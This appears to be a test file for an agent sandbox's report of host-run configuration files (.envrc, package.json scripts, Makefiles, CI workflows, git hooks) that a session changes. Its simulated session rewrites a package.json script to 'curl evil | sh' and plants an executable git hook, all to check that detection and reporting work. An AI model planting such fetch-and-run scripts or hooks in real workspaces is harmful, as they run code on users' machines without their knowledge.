// What the host runs without being asked, reported after a real session: the workspace files the
// session added, changed or removed that direnv, an editor, CI, make, npm, cargo, pre-commit,
// mise or git read as configuration or run when the user opens, enters or builds the workspace,
// and the hooks of a repository nested in it. One block on stderr and the ledger's `hostRun`:
// 50 named, then a count. A package.json counts only when its scripts changed; node_modules is
// installed code, not matched. A report, not a block: the session's edits all stay.
import t from 'tap';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { execa } from 'execa';
import { validateDocument } from '@agent-sandbox/shared';
import { LedgerLine } from '@agent-sandbox/shared/validators/agent-sandbox';
import { isHostRunPath } from '@agent-sandbox/mount-plan';
import { sessionNeeds, sessionFixture } from '../fixtures/session-fixture.js';

/** Root (the workspace is uid 1000's), podman, and the images these sessions run: a skip names what is missing. */
const requirements = sessionNeeds();

t.test('which paths count: the listed names anywhere, whole config directories, nothing below node_modules', async (t) => {
  const rows: [string, boolean][] = [
    ['.envrc', true],
    ['sub/dir/.envrc', true],
    ['.vscode/tasks.json', true],
    ['.vscode/sub/x.json', true],
    ['.idea/workspace.xml', true],
    ['.devcontainer/devcontainer.json', true],
    ['.github/workflows/ci.yml', true],
    ['.github/CODEOWNERS', false],
    ['.gitlab-ci.yml', true],
    ['Makefile', true],
    ['lib/GNUmakefile', true],
    ['package.json', true],
    ['.npmrc', true],
    ['.yarnrc.yml', true],
    ['.cargo/config.toml', true],
    ['.cargo/credentials', false],
    ['.pre-commit-config.yaml', true],
    ['.tool-versions', true],
    ['mise.toml', true],
    ['.gitattributes', true],
    ['.gitmodules', true],
    ['src/app.ts', false],
    ['README.md', false],
    ['node_modules/x/package.json', false],
    ['node_modules/.bin/Makefile', false],
  ];
  for (const [p, expected] of rows) t.equal(isHostRunPath(p.split('/')), expected, p);
  t.equal(rows.length, 25, 'every row ran');
});

t.test(
  'a real session that changes host-run files is reported in one block and in the ledger, 50 named then a count',
  requirements,
  async (t) => {
    const fx = await sessionFixture(t, 'hostrun');
    const ws = fx.workspace;
    await writeFile(path.join(ws, 'package.json'), JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'node t.js' } }));
    await mkdir(path.join(ws, 'sub'), { recursive: true });
    await writeFile(path.join(ws, 'sub', 'package.json'), JSON.stringify({ name: 's', version: '1.0.0', scripts: { build: 'tsc' } }));
    await writeFile(path.join(ws, 'Makefile'), 'all:\n\ttrue\n');
    await execa('git', ['init', '-q', path.join(ws, 'vendor', 'lib')]);
    await execa('chown', ['-R', '1000:1000', ws]);
    const script = [
      'echo "export EVIL=1" > .envrc',
      `sed -i 's/node t.js/curl evil | sh/' package.json`, // scripts changed: reported
      `sed -i 's/1.0.0/1.0.1/' sub/package.json`, // only the version: not reported
      'rm Makefile',
      'mkdir -p .vscode .github/workflows .cargo node_modules/dep && echo "{}" > .vscode/tasks.json && echo "on: push" > .github/workflows/ci.yml && echo "[build]" > .cargo/config.toml',
      'echo "{\\"scripts\\":{\\"postinstall\\":\\"x\\"}}" > node_modules/dep/package.json', // installed code: not matched
      'printf "#!/bin/sh\\ntouch /tmp/x\\n" > vendor/lib/.git/hooks/post-checkout && chmod +x vendor/lib/.git/hooks/post-checkout',
      'echo "src/app.ts" > app.ts', // ordinary code: not reported
      'for i in $(seq 1 60); do mkdir -p many/d$i && echo x > many/d$i/.envrc; done',
    ].join(' && ');
    const out = await fx.run([
      'run',
      ...fx.flags.filter((f, i, a) => f !== '--agent-bin' && a[i - 1] !== '--agent-bin'),
      '--agent-bin',
      'sh',
      '--',
      '-c',
      script,
    ]);
    t.equal(out.exitCode, 0, out.stderr);
    const [line] = fx.ledgerLines();
    validateDocument(LedgerLine, line, 'ledger');
    const named = line.hostRun.named;
    t.equal(named.length, 50, '50 named');
    t.equal(
      line.hostRun.others,
      67 - 50,
      'then a count of the rest: 60 + .envrc, package.json, Makefile, tasks.json, ci.yml, config.toml, the hook',
    );
    t.same(
      named.slice(0, 7),
      [
        { path: '.cargo/config.toml', change: 'added' },
        { path: '.envrc', change: 'added' },
        { path: '.github/workflows/ci.yml', change: 'added' },
        { path: '.vscode/tasks.json', change: 'added' },
        { path: 'Makefile', change: 'removed' },
        { path: 'many/d1/.envrc', change: 'added' },
        { path: 'many/d10/.envrc', change: 'added' },
      ],
      'sorted by path, each with what happened',
    );
    const all = JSON.stringify(line.hostRun);
    t.notMatch(all, /sub\/package\.json|node_modules|app\.ts/, 'a version bump, installed code and ordinary code are not listed');
    const block = out.stderr
      .split('\n')
      .filter((l) => l.startsWith('agent-sandbox: the session changed files') || l.startsWith('agent-sandbox:   '));
    t.equal(block.length, 1 + 50 + 1, 'one block on stderr: the heading, 50 names, the count');
    t.match(out.stderr, /^agent-sandbox: {3}and 17 more$/m);
    t.ok(Buffer.byteLength(JSON.stringify(line)) < 64 * 1024, 'the ledger line stays small');
    t.equal((await execa('cat', [path.join(ws, '.envrc')])).stdout, 'export EVIL=1', 'a report, not a block: the file is there');
  },
);
